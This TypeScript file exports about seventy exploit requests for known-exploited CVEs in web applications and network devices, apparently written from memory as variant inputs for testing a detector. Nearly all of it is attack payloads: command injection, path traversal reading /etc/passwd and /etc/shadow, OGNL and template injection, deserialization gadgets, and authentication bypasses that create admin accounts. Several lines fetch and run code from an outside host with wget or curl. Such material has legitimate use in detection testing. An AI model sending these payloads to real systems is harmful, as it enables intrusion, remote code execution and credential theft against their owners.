/**
 * Applications, devices. Requests of vulnerabilities that are known to be exploited, written from memory of their public descriptions by somebody
 * who did not look at the catalogue: another spelling, another parameter, another payload than its own cases.
 */
import { get, post } from './second-reading-requests.ts';

export const applications: readonly (readonly [string, string])[] = [
  [
    'CVE-2025-55182',
    post(
      '/',
      '------W\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}',
      'Next-Action: x\r\n',
    ),
  ],
  [
    'CVE-2025-29927',
    get('/dashboard', 'x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware\r\n'),
  ],
  [
    'CVE-2017-5638',
    get(
      '/index.action',
      "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\r\n",
    ),
  ],
  [
    'CVE-2023-50164',
    post(
      '/upload.action',
      '------W\r\nContent-Disposition: form-data; name="Upload"; filename="a.txt"\r\n\r\nx\r\n------W\r\nContent-Disposition: form-data; name="uploadFileName"\r\n\r\n../../a.jsp\r\n',
    ),
  ],
  [
    'CVE-2019-18935',
    post(
      '/Telerik.Web.UI.WebResource.axd?type=rau',
      '------W\r\nContent-Disposition: form-data; name="rauPostData"\r\n\r\nATTu8i4R+ViNFYO6kst0jC11wM',
    ),
  ],
  [
    'CVE-2024-4358',
    post('/Startup/Register', 'Username=a&Password=b&ConfirmPassword=b&Email=a%40b&FirstName=a&LastName=b'),
  ],
  [
    'CVE-2025-53770',
    post(
      '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx',
      'MSOTlPn_Uri=http%3A%2F%2Fx&MSOTlPn_DWP=%3C%25%40+Register',
      'Referer: /_layouts/SignOut.aspx\r\n',
    ),
  ],
  [
    'CVE-2023-29357',
    get(
      '/_api/web/siteusers',
      'Authorization: Bearer eyJhbGciOiJub25lIn0.eyJpc3MiOiIwMDAwMDAwMy0wMDAwLTBmZjEtY2UwMC0wMDAwMDAwMDAwMDAifQ.\r\nX-PROOF_TOKEN: a\r\n',
    ),
  ],
  [
    'CVE-2025-59287',
    post(
      '/SimpleAuthWebService/SimpleAuth.asmx',
      '<soap:Envelope><soap:Body><GetAuthorizationCookie xmlns="http://www.microsoft.com/SoftwareDistribution/Server/SimpleAuthWebService"><clientId>x</clientId></GetAuthorizationCookie></soap:Body></soap:Envelope>',
    ),
  ],
  [
    'CVE-2025-31324',
    post(
      '/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1',
      '------W\r\nContent-Disposition: form-data; name="file"; filename="helper.jsp"\r\n\r\n<% %>',
    ),
  ],
  [
    'CVE-2025-61882',
    post(
      '/OA_HTML/configurator/UiServlet',
      'redirectFromJsp=1&getUiType=<initialize><param name="return_url">http://198.51.100.2/x</param></initialize>',
    ),
  ],
  [
    'CVE-2022-21587',
    post(
      '/OA_HTML/BneUploaderService?bne:uueupload=TRUE',
      '------W\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\nbegin 664 x.zip',
    ),
  ],
  [
    'CVE-2020-14882',
    get(
      '/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22x%22)',
    ),
  ],
  [
    'CVE-2025-24813',
    post('/uploads/x/session', '\xac\xed\x00\x05', 'Content-Range: bytes 0-5/100\r\n', 'PUT'),
  ],
  ['CVE-2021-41773', get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd')],
  ['CVE-2021-42013', post('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh', 'echo;id')],
  ['CVE-2021-40438', get(`/?unix:${'A'.repeat(5000)}|http://198.51.100.2/`)],
  [
    'CVE-2022-46169',
    get(
      '/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`',
      'X-Forwarded-For: 127.0.0.1\r\n',
    ),
  ],
  ['CVE-2023-1389', get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/a)')],
  ['CVE-2024-3273', get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=')],
  [
    'CVE-2021-36260',
    post(
      '/SDK/webLanguage',
      '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>',
      '',
      'PUT',
    ),
  ],
  [
    'CVE-2017-17215',
    post(
      '/ctrlt/DeviceUpgrade_1',
      '<NewStatusURL>$(/bin/busybox wget -g 198.51.100.2 -l /tmp/x -r /x)</NewStatusURL>',
    ),
  ],
  [
    'CVE-2018-10561',
    post(
      '/GponForm/diag_Form?images/',
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox wget http://198.51.100.2/a`&ipv=0',
    ),
  ],
  ['CVE-2016-20016', get('/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.2/jaws;sh+/tmp/jaws')],
  [
    'CVE-2024-12856',
    post('/apply.cgi', 'change_action=adjust_sys_time&submit_button=sysinfo&adj_time_year=$(id)'),
  ],
  ['CVE-2024-7029', post('/cgi-bin/supervisor/Factory.cgi', 'action=white_led&brightness=$(id)')],
  [
    'CVE-2023-20198',
    post(
      '/%2577eb%2575i_%2577sma_Http',
      '<?xml version="1.0"?><SOAP:Envelope><request xmlns="urn:cisco:wsma-config"/></SOAP:Envelope>',
    ),
  ],
  [
    'CVE-2021-21972',
    post(
      '/ui/vropspluginui/rest/services/uploadova',
      '------W\r\nContent-Disposition: form-data; name="uploadFile"; filename="x.tar"\r\n\r\n../../usr/lib',
    ),
  ],
  [
    'CVE-2021-22005',
    post('/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../etc/cron.d/x', '* * * * * root id'),
  ],
  [
    'CVE-2022-22954',
    get(
      '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d',
    ),
  ],
  [
    'CVE-2023-20887',
    post('/saas./resttosaasservlet', '\x80\x01\x00\x01\x00\x00\x00\x16createSupportBundle`id`'),
  ],
  [
    'CVE-2022-47966',
    post(
      '/SamlResponseServlet',
      'SAMLResponse=PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPHNhbWxwOlJlc3BvbnNlPjxkczpUcmFuc2Zvcm0gQWxnb3JpdGhtPSJodHRwOi8vd3d3LnczLm9yZy9UUi8xOTk5L1JFQy14c2x0LTE5OTkxMTE2Ij4%3D',
    ),
  ],
  ['CVE-2021-40539', post('/./RestAPI/LogonCustomization', 'methodToCall=previewMobLogo')],
  [
    'CVE-2022-27925',
    post('/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1', 'PK\x03\x04'),
  ],
  [
    'CVE-2022-37042',
    post('/service/extension/backup/mboximport?account-name=admin@x&account-status=1&ow=cmd', 'PK\x03\x04'),
  ],
  ['CVE-2024-45519', 'RCPT TO: <"aabbb$(curl${IFS}198.51.100.2)"@mail.domain.com>\r\n'],
  [
    'CVE-2025-49113',
    post(
      '/?_task=settings&_remote=1&_from=edit-!xxx&_id=&_uploadid=upload1',
      '------W\r\nContent-Disposition: form-data; name="_file[]"; filename="!\\";i:0;O:16:\\"Crypt_GPG_Engine\\":1:{S:26:\\"\\00Crypt_GPG_Engine\\00_gpgconf\\""\r\n\r\n',
    ),
  ],
  [
    'CVE-2023-43208',
    post(
      '/api/users',
      '<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="org.apache.commons.lang3.event.EventUtils$EventBindingInvocationHandler"/></dynamic-proxy></sorted-set>',
      'X-Requested-With: OpenAPI\r\n',
    ),
  ],
  [
    'CVE-2023-38646',
    post(
      '/api/setup/validate',
      '{"token":"5491c003","details":{"details":{"db":"zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER p BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\\njava.lang.Runtime.getRuntime().exec(\'id\')$$"},"engine":"h2"}}',
    ),
  ],
  ['CVE-2021-43798', get('/public/plugins/alertlist/../../../../../../../../etc/passwd')],
  ['CVE-2023-27350', get('/app?service=page/SetupCompleted')],
  ['CVE-2023-0669', post('/goanywhere/lic/accept', 'bundle=AAAA')],
  ['CVE-2024-0204', get('/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml')],
  ['CVE-2025-10035', post('/goanywhere/lic/accept/x?bundle=AAAA', '')],
  [
    'CVE-2024-4040',
    post(
      '/WebInterface/function/?command=zip&c2f=x&path=<INCLUDE>users/MainUsers/groups.XML</INCLUDE>&names=/x',
      '',
      'Cookie: CrushAuth=1\r\n',
    ),
  ],
  [
    'CVE-2025-31161',
    get(
      '/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=0000',
      'Cookie: CrushAuth=1743113839876_aaaa0000; currentAuth=0000\r\nAuthorization: AWS4-HMAC-SHA256 Credential=crushadmin/\r\n',
    ),
  ],
  ['CVE-2024-28995', get('/?InternalDir=/../../../../windows&InternalFile=win.ini')],
  [
    'CVE-2024-50623',
    post(
      '/Synchronization',
      '',
      'VLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=1337;s=True;b=False;pp=myEncryptedPassphrase;path=..\\..\\windows\\win.ini\r\n',
    ),
  ],
  ['CVE-2021-27101', post('/document_root.html', 'x', "Host: ' or 1=1#\r\n")],
  [
    'CVE-2023-49103',
    get('/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css'),
  ],
  [
    'CVE-2024-27956',
    post('/wp-content/plugins/wp-automatic/inc/csv.php', 'q=SELECT+*+FROM+wp_users&auth=%00&integ=0'),
  ],
  [
    'CVE-2020-25213',
    post(
      '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      'cmd=upload&target=l1_Lw&upload[]=x.php',
    ),
  ],
  [
    'CVE-2024-25600',
    post(
      '/wp-json/bricks/v1/render_element',
      '{"postId":"1","nonce":"x","element":{"name":"container","settings":{"hasLoop":"true","query":{"useQueryEditor":true,"queryEditor":"throw new Exception(`id`);","objectType":"post"}}}}',
    ),
  ],
  [
    'CVE-2023-28121',
    post(
      '/wp-json/wp/v2/users',
      '{"username":"a","password":"b","roles":["administrator"]}',
      'X-WCPAY-PLATFORM-CHECKOUT-USER: 1\r\n',
    ),
  ],
  ['CVE-2024-28000', get('/wp-json/wp/v2/users', 'Cookie: litespeed_role=1; litespeed_hash=abcdef\r\n')],
  [
    'CVE-2021-25646',
    post(
      '/druid/indexer/v1/sampler',
      '{"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","function":"function(value){return java.lang.Runtime.getRuntime().exec(\'id\')}","":{"enabled":true}}}}}}',
    ),
  ],
  ['CVE-2022-33891', get('/doAs?doAs=`id`')],
  [
    'CVE-2023-33246',
    '\x00\x00\x00\xcd\x00\x00\x00e{"code":25,"flag":0,"language":"JAVA","opaque":0,"serializeTypeCurrentRPC":"JSON","version":395}filterServerNums=1\nrocketmqHome=-c $@|sh . echo id;\n',
  ],
  [
    'CVE-2022-0543',
    '*3\r\n$4\r\nEVAL\r\n$50\r\nlocal io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); \r\n$1\r\n0\r\n',
  ],
  [
    'CVE-2023-51467',
    post(
      '/webtools/control/ProgramExport?USERNAME=&PASSWORD=&requirePasswordChange=Y',
      'groovyProgram=throw+new+Exception(%27id%27.execute().text);',
    ),
  ],
  [
    'CVE-2024-38856',
    post(
      '/webtools/control/main/ProgramExport',
      'groovyProgram=\\u0074hrow new Exception("id".execute().text)',
    ),
  ],
  [
    'CVE-2023-48788',
    "MSG_HEADER: FCTUID=CBE8FC122B1A46D18C3541E1A8EFF7BD'; WAITFOR DELAY '0:0:5' --\nSIZE=  100\n\nX-FCCK-REGISTER: ",
  ],
  ['CVE-2023-48022', post('/api/jobs/', '{"entrypoint":"id"}')],
  [
    'CVE-2025-3248',
    post('/api/v1/validate/code', '{"code":"@exec(\'import os;os.system(\\"id\\")\')\\ndef f(): pass"}'),
  ],
  ['CVE-2024-24919', post('/clients/MyCRL', 'aCSHELL/../../../../../../../etc/shadow')],
  ['CVE-2017-9841', post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo md5("x");?>')],
  [
    'CVE-2018-20062',
    get(
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
    ),
  ],
  [
    'CVE-2021-3129',
    post(
      '/_ignition/execute-solution',
      '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}',
    ),
  ],
  ['CVE-2024-56145', post('/?--templatesPath=ftp://198.51.100.2/', '')],
  [
    'CVE-2023-41892',
    post(
      '/index.php',
      'action=conditions/render&configObject=craft\\elements\\conditions\\ElementCondition&config={"name":"configObject","as ":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream"}}',
    ),
  ],
  [
    'CVE-2025-32432',
    post(
      '/index.php?p=admin/actions/assets/generate-transform',
      '{"assetId":11,"handle":{"width":123,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream"}}}',
    ),
  ],
];
